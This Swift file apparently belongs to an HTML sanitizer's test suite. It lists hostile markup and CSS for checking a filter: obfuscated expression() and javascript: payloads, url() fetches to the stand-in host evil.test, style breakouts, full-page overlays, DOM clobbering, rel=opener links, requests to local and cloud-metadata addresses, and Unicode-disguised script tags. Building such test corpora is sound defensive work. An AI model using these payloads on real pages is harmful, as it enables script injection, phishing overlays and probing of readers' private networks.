extension Attacks {
  /// Attacks that run nothing and still harm the page around them, or its readers.
  static let disguising: [Family] = [
    ("styles that run", runningStyles),
    ("styles that fetch", fetchingStyles),
    ("styles that break out of their attribute", brokenStyles),
    ("styles that cover the page", covering),
    ("names that scripts of the page trip over", clobbering),
    ("windows that reach back", windows),
    ("addresses in the reader's own network", privateAddresses),
    ("characters that are not what they seem", characters),
  ]

  private static func styled(_ style: String) -> String { "<p style=\"\(style)\">x</p>" }

  private static let runningStyles = [
    "width: expression(alert(1))", "w\\69 dth: e\\78pression(alert(1))", "width: exp/**/ression(alert(1))",
    "width: EXPRESSION(alert(1))", "width: ｅｘｐｒｅｓｓｉｏｎ(alert(1))", "-moz-binding: url(//evil.test/x.xml#y)",
    "behavior: url(#default#time2)", "-o-link: 'javascript:alert(1)'; -o-link-source: current",
    "xss: expression(alert(1))",
    "background: url(javascript:alert(1))", "list-style: url(java\nscript:alert(1))",
    "font-family: expression(alert(1))",
    "color: expression\u{301}(alert(1))", "width: ex\u{200B}pression(alert(1))",
  ].map(styled)

  private static let fetchingStyles = [
    "background: url(//evil.test/x)", "background: URL(//evil.test/x)", "background: u\\rl(//evil.test/x)",
    "background: url\u{301}(//evil.test/)", "background: url(\u{301}/x)", "background: url(&#x301;/x)",
    "background: \\75\\72\\6c(//evil.test)",
    "background: image-set('//evil.test/x' 1x)", "background: -webkit-image-set(url(x) 1x)",
    "background: image('//evil.test/x')",
    "background: cross-fade(url(x), url(y))", "background: src('//evil.test/x')", "background: element(#x)",
    "background: paint(x)",
    "cursor: url(//evil.test/), auto", "content: url(//evil.test/)", "border-image: url(//evil.test/) 1",
    "filter: url(//evil.test/#x)",
    "mask: url(//evil.test/#x)", "clip-path: url(#x)", "shape-outside: url(//evil.test/)",
    "src: url(//evil.test/)",
    "@import '//evil.test/x.css'", "background: var(--x, url(//evil.test/))", "--x: url(//evil.test/)",
    "background: attr(title url)",
    "list-style-image: url( &quot;//evil.test/&quot; )", "background: url(/*", "background: url(x/*)*/",
    "border-image-source: url(x)",
    "background: 'x' url(x)", "background: (url(x))", "background: [url(x)]", "background:/**/url(x)",
  ].map(styled)

  private static let brokenStyles = [
    "color: red; } body { display: none", "color: red</style><img src=x onerror=alert(1)>",
    "font-family: '\n; position: fixed; x: '",
    "font-family: '\\'; position: fixed; x: '", "font-family: &quot;x&#10;;position:fixed;&quot;",
    "color: rgb(1; position: fixed",
    "color: [; position: fixed; x: ]", "color: red\\; position: fixed", "color: {; position: fixed }",
    "color: red; {position: fixed}",
    "/*; color: red; */ position: fixed", "color: red/*\u{301}; position: fixed; */",
    "/*\u{301}*/ position: fixed", "/*/ position: fixed; /*/",
    "color: 'x/*'; position: fixed; '*/'", "color: red;position\u{0}: fixed", "position\u{200D}: fixed",
    "position: fi\\xed", "\u{FEFF}position: fixed",
    "position&#58; fixed", "&#112;osition: fixed", "color: red!important; POSITION: FIXED !important",
    "<!-- position: fixed -->",
    "position: fixed\u{0C}", "position\u{0C}:\u{0C}fixed", "position: /**/ fixed /**/", "position:\\66ixed",
    "all: x; position: sticky",
    "color: red\u{0}; \u{1F}position: fixed", "color: '&#13;; position: fixed; '",
    "color: '&#1;'; position: fixed",
  ].map(styled)

  private static let covering =
    [
      "position: fixed; inset: 0", "position: absolute; top: 0", "position: sticky; top: 0",
      "position: -webkit-sticky",
      "position: relative; top: -900px", "inset: 0; z-index: 99999", "transform: scale(99)",
      "translate: -900px", "scale: 99", "zoom: 99",
      "margin-top: -9999px", "margin: -9999px 0 0", "margin-top: -100vh", "margin: calc(0px - 900px)",
      "margin-top: -1e5px",
      "outline: 9999px solid red", "outline-offset: 9999px", "box-shadow: 0 0 0 9999px white",
      "box-shadow: 0 0 0 100vmax #fff",
      "text-shadow: 0 0 900px red", "border-image-outset: 9999px", "text-indent: -9999px",
      "font-size: 9999px", "font: 900px/0 x",
      "box-shadow: 0 0 0 calc(9px * 999) red", "offset-path: path('M0')", "view-transition-name: x",
      "anchor-name: --x", "top: 0",
      "animation: x 1s", "transition: all 1s", "content: 'x'", "pointer-events: all",
      "will-change: transform", "contain: none",
      "padding: 9999px", "padding: 0 0 99vh", "border: 9999px solid transparent",
      "border-width: calc(9px * 9999)",
      "border-image: linear-gradient(red, red) 1 / 9999px / 9999px", "inset-block: 0",
      "float: left; left: -9999px",
      "position: relative; inset: -900px", "rotate: 90deg", "perspective: 1px", "backdrop-filter: blur(9px)",
      "mix-blend-mode: difference", "isolation: auto; z-index: 9", "cursor: none", "touch-action: none",
      "overscroll-behavior: none", "scroll-behavior: smooth", "appearance: none", "clip-path: inset(0)",
    ].map(styled) + [
      "<svg overflow=visible style='overflow:visible'><a href=//evil.test/><rect x=-999 y=-999 width=9999 height=9999 /></a></svg>",
      "<svg width=1 height=1 style='position:fixed;overflow:visible!important;overflow-clip-margin:9999px'></svg>",
      "<marquee direction=down behavior=alternate>x</marquee>", "<dialog open>x</dialog>",
      "<p popover=manual>x</p>", "<blink>x</blink>",
      "<layer z-index=9>x</layer>", "<math><mpadded style='position:fixed'><mi>x</mi></mpadded></math>",
    ]

  private static let clobbering = [
    "<a id=x><a id=x name=y href='clobbered:1'>", "<form id=x><output id=y>z</output></form>",
    "<img name=getElementById>", "<img name=cookie id=body>",
    "<iframe name=self src=//evil.test/></iframe>", "<a id=defaultView name=location>x</a>",
    "<a name=__proto__>x</a>", "<embed name=x src=y>",
    "<object name=x data=y></object>", "<a id='constructor'>x</a>", "<svg id=x><g id=y /></svg>",
    "<form name=body><input name=firstChild></form>",
    "<p slot=x part=y exportparts=z is=w>v</p>", "<template shadowrootmode=open><slot></slot></template>",
    "<p itemref=x itemid=javascript:alert(1)>y</p>",
  ]

  private static let windows = [
    "<a href=//evil.test/ target=x>y</a>", "<a href=//evil.test/ target=_blank rel=opener>y</a>",
    "<a href=//evil.test/ rel='OPENER me'>y</a>",
    "<a href=//evil.test/ target=_BLANK>y</a>", "<map><area href=//evil.test/ target=x rel=opener></map>",
    "<a href=x rel='opener\topener'>y</a>",
    "<a target='<img src=x onerror=alert(1)>\n' href=x>y</a>",
    "<svg><a href=x target=y rel=opener><text>z</text></a></svg>",
  ]

  private static let privateAddresses = [
    "<img src=http://127.0.0.1:631/x>", "<img srcset='http://192.168.0.1/reboot 1x'>",
    "<video src=http://10.0.0.1/x poster=http://[::1]/></video>",
    "<svg><image href=http://169.254.169.254/latest/ /></svg>", "<img src=//router.local/>",
    "<source src=http://0/>", "<img src=http:127.0.0.1>",
    "<img src='http:/\\127.0.0.1/'>", "<img src=http://localhost%2e/>", "<img src=http://①②⑦.0.0.1/>",
    "<img src=http://127.0.0.1.nip.io@127.0.0.1/>",
  ]

  private static let characters = [
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}", "<\u{17F}cript>alert(1)</\u{17F}cript>",
    "<img onerro\u{0280}=alert(1)>", "<\u{212A}eygen onfocus=alert(1)>",
    "<scr\u{0}ipt>alert(1)</script>", "<scr\u{AD}ipt>alert(1)</script>", "<img src=x\u{A0}onerror=alert(1)>",
    "<img src=x\u{85}onerror=alert(1)>",
    "<img src=x\u{1680}onerror=alert(1)>", "\u{202E}<img src=x onerror=alert(1)>",
    "<a href='\u{FF4A}avascript:alert(1)'>x</a>", "<a href='javascrip\u{3164}t:x'>y</a>",
    "<a href='\u{A0}javascript:alert(1)'>x</a>", "<a href='\u{FEFF}javascript:alert(1)'>x</a>",
    "<a href='\u{2028}javascript:alert(1)'>x</a>", "<p\u{301}>x", "<\u{301}p>x",
    "<p title=\"\u{301}\">x", "<p title='\u{301}'>x", "<p\u{200D}onclick=alert(1)>x", "&\u{301}lt;",
    "<p>&#xFFFF;&#xFFFE;&#xD800;&#x1F;&#x7F;&#x80;&#x9F;&#x10FFFF;",
    "\u{1}javascript:x\u{2}\u{3}", "<a href='\u{1}/x\u{2}\" onclick=alert(1) \u{1}'>y</a>",
    "<p title='&#1;javascript:alert(1)&#2;&#3;'>x</p>",
  ]
}
